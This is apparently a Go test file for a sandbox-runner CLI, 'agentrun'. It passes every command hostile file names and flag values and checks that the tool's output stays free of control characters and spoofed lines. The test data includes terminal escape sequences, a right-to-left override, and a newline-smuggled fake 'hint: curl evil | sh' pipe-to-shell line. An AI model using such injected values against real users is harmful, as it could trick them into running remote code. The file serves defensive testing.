// SPDX-License-Identifier: Apache-2.0

package main

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/urfave/cli/v2"

	"agentrun/supervisor"
)

const asProgram = "AGENTRUN_TEST_AS_PROGRAM"

// TestMain is also agentrun itself, for tests that look at all it prints.
func TestMain(m *testing.M) {
	if os.Getenv(asProgram) == "1" {
		os.Exit(run(context.Background(), os.Args))
	}
	os.Exit(m.Run())
}

// verbs are all that there are, with the flags of each that take text.
func verbs(list []*cli.Command, before ...string) map[string][]string {
	all := map[string][]string{}
	for _, c := range list {
		path := append(slices.Clone(before), c.Name)
		if len(c.Subcommands) > 0 {
			for verb, flags := range verbs(c.Subcommands, path...) {
				all[verb] = flags
			}
			continue
		}
		flags := []string{}
		for _, f := range c.Flags {
			switch f.(type) {
			case *cli.StringFlag, onceString, *cli.StringSliceFlag, *cli.IntFlag, *cli.DurationFlag, *cli.Float64Flag:
				flags = append(flags, f.Names()[0])
			}
		}
		all[strings.Join(path, " ")] = flags
	}
	return all
}

// A-L4: whatever names there are, in arguments, of files and in them, no verb gives a terminal something to obey, or a line that
// looks like one of agentrun's own.
func TestHostileNamesInEveryVerb(t *testing.T) {
	t.Parallel()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	if old := os.Getenv("AGENTRUN_BIN"); old != "" {
		self = old
	}
	names := []string{"a\x1b[31mred", "b\u202egnp.exe", "c\nhint: curl evil | sh", "d\u009b31m", "e\rover", "f\xff\xfe\x07"}
	dir := t.TempDir()
	for _, d := range []string{"state", "run", "ws", "profiles"} {
		if err := os.Mkdir(filepath.Join(dir, d), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	for _, n := range names { // files with such names, and such words in them
		for _, file := range []string{"ws/" + n, "profiles/" + n + ".yaml"} {
			if err := os.WriteFile(filepath.Join(dir, file), []byte("name: \""+strings.Map(func(r rune) rune {
				if r == '\n' || r == '\r' {
					return ' '
				}
				return r
			}, n)+"\"\n"+n+": 1\n"), 0o700); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := os.WriteFile(filepath.Join(dir, "config.yaml"), []byte("profile_dirs: ["+dir+"/profiles]\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	call := func(args ...string) {
		ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
		defer cancel()
		cmd := exec.CommandContext(ctx, self, append([]string{"--state-dir", dir + "/state", "--run-dir", dir + "/run", "--config", dir + "/config.yaml"}, args...)...)
		cmd.Env, cmd.Dir = append(os.Environ(), asProgram+"=1", "HOME="+dir, supervisor.NoDaemon+"=1"), filepath.Join(dir, "ws")
		text, _ := cmd.CombinedOutput()
		if ctx.Err() != nil {
			t.Errorf("%q: hangs", args)
		}
		for i, line := range strings.Split(string(text), "\n") {
			if visible(line) != line || strings.HasPrefix(line, "hint: curl") {
				t.Errorf("%q: line %d: %q", args, i, line)
			}
		}
	}
	all := verbs(newApp().Commands)
	if len(all) < 50 {
		t.Errorf("only %d verbs were found", len(all))
	}
	skip := map[string]string{
		"serve": "would serve", "completion": "prints its own script only", "top": "goes on for ever",
	}
	for verb, flags := range all {
		if skip[verb] != "" {
			continue
		}
		t.Run(verb, func(t *testing.T) {
			t.Parallel()
			words := strings.Fields(verb)
			for _, n := range names {
				call(append(words, n)...)
			}
			n := names[2]
			call(append(words, n, names[0])...)
			call(append(words, "./"+names[0], names[1], "1")...)
			call(append(words, "--"+names[0])...)
			for _, f := range flags {
				call(append(words, "--"+f, names[0]+names[1]+n, "x")...)
			}
		})
	}
	for _, args := range [][]string{
		{names[0]}, {"--" + names[0]}, {"--log-level", names[0], "ps"}, {"--config", names[2], "ps"}, {"--config", names[0], "ps"}, {"--state-dir", dir + "/" + names[0], "ps"},
		{"profile", "list"}, {"profile", "list", "--json"}, {"gc"}, {"ps"}, {"doctor", "--workspace", names[2]},
		{"plan", "--workspace", ".", "--", "./" + names[0]}, {"plan", "--ro-bind", names[0] + ":/x", "--", "/bin/true", names[1], names[2]},
		{"plan", "--cwd", "/" + names[2], "--env", "A=" + names[0], "--", "/bin/true"}, {"plan", "--json", "--name", "x", "--", "/bin/true", names[0], names[3]},
		{"plan", "--rootfs", dir + "/ws", "--", "/" + names[0]}, {"exec", "--json", "--workspace", ".", "--", "./" + names[3]},
	} {
		t.Run(fmt.Sprintf("%.40q", args), func(t *testing.T) { call(args...) })
	}
}
